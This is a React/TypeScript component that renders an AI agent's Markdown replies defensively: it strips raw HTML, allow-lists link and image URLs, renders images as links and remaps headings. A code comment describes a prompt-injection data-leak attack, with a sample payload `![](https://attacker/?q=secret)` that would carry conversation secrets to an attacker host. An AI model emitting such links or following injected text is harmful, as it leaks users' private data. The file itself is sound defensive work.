'use client';

import * as React from 'react';
import Markdown, { type Components, type Options, type UrlTransform } from 'react-markdown';
import remarkGfm from 'remark-gfm';
import { safeLinkHref, safeWebUrl } from './safeUrl.js';

// An agent's text is untrusted (a prompt injection writes it), so URLs are allow-listed: links may be
// http(s) or mailto, image sources http(s) only; anything else loses its URL and renders as plain text.
const urlTransform: UrlTransform = (url, key) => (key === 'href' ? safeLinkHref(url) : safeWebUrl(url));

const NEW_TAB = ' (opens in a new tab)';

const components: Components = {
  a: ({ node: _node, href, children, ...rest }) =>
    href ? (
      <a {...rest} href={href} target="_blank" rel="noopener noreferrer">
        {children}
        <span className="agk-visually-hidden">{NEW_TAB}</span>
      </a>
    ) : (
      <span className="agk-markdown__unlinked">{children}</span>
    ),
  // An image the agent names is a link, never loaded by itself: a loaded URL could carry data out of the
  // conversation (an injected `![](https://attacker/?q=secret)`) without anyone clicking anything.
  img: ({ src, alt }) =>
    typeof src === 'string' && src ? (
      <a href={src} target="_blank" rel="noopener noreferrer" className="agk-markdown__image-link">
        Image: {alt || src}
        <span className="agk-visually-hidden">{NEW_TAB}</span>
      </a>
    ) : (
      <span className="agk-markdown__unlinked">{alt ? `Image: ${alt}` : 'Image'}</span>
    ),
  pre: ({ node: _node, ...rest }) => <pre {...rest} className="agk-code agk-markdown__code" />,
  // A wide table scrolls inside the reply; the keyboard reaches the scroll area too.
  table: ({ node: _node, ...rest }) => (
    // biome-ignore lint/a11y/noNoninteractiveTabindex: a scrollable region must be focusable to be scrolled without a mouse
    <section className="agk-markdown__table" aria-label="Table" tabIndex={0}>
      <table {...rest} />
    </section>
  ),
  // A task list's box says whether the item is done; it is not a control anyone can tick.
  input: ({ type, checked }) =>
    type === 'checkbox' ? (
      <span className="agk-markdown__task" role="img" aria-label={checked ? 'done' : 'not done'}>
        {checked ? '☑' : '☐'}
      </span>
    ) : null,
  // A reply sits inside the page's outline (a tool card's title is an h3): its `#` must not become the page's h1.
  h1: ({ node: _node, ...rest }) => <h3 {...rest} />,
  h2: ({ node: _node, ...rest }) => <h4 {...rest} />,
  h3: ({ node: _node, ...rest }) => <h5 {...rest} />,
  h4: ({ node: _node, ...rest }) => <h6 {...rest} />,
  h5: ({ node: _node, ...rest }) => <h6 {...rest} />,
};

const remarkPlugins: Options['remarkPlugins'] = [remarkGfm];

type HastNode = { properties?: Record<string, unknown>; children?: HastNode[] };
const FOOTNOTE_LABEL = 'footnote-label';

/**
 * Footnote ids carry the message's prefix (`clobberPrefix`), except the
 * footnotes heading's, which is always `footnote-label`: this gives it the
 * prefix too, and the references that point to it.
 */
const prefixFootnoteLabel = (prefix: string) => () => (tree: HastNode) => {
  const walk = (node: HastNode) => {
    const p = node.properties;
    if (p) {
      if (p.id === FOOTNOTE_LABEL) p.id = prefix + FOOTNOTE_LABEL;
      if (Array.isArray(p.ariaDescribedBy)) p.ariaDescribedBy = p.ariaDescribedBy.map((id) => (id === FOOTNOTE_LABEL ? prefix + id : id));
    }
    for (const child of node.children ?? []) walk(child);
  };
  walk(tree);
};

/**
 * The Markdown renderer `SafeMarkdown` loads on demand (this module, with
 * react-markdown and remark-gfm, is a chunk of its own): raw HTML dropped,
 * URLs allow-listed, images as links, headings from h3, footnote ids under
 * `idPrefix`.
 */
export function MarkdownBody({ text, idPrefix }: { text: string; idPrefix: string }) {
  const { remarkRehypeOptions, rehypePlugins } = React.useMemo(
    () => ({ remarkRehypeOptions: { clobberPrefix: idPrefix }, rehypePlugins: [prefixFootnoteLabel(idPrefix)] }),
    [idPrefix],
  );
  return (
    <Markdown
      skipHtml
      urlTransform={urlTransform}
      components={components}
      remarkPlugins={remarkPlugins}
      remarkRehypeOptions={remarkRehypeOptions}
      rehypePlugins={rehypePlugins}
    >
      {text}
    </Markdown>
  );
}
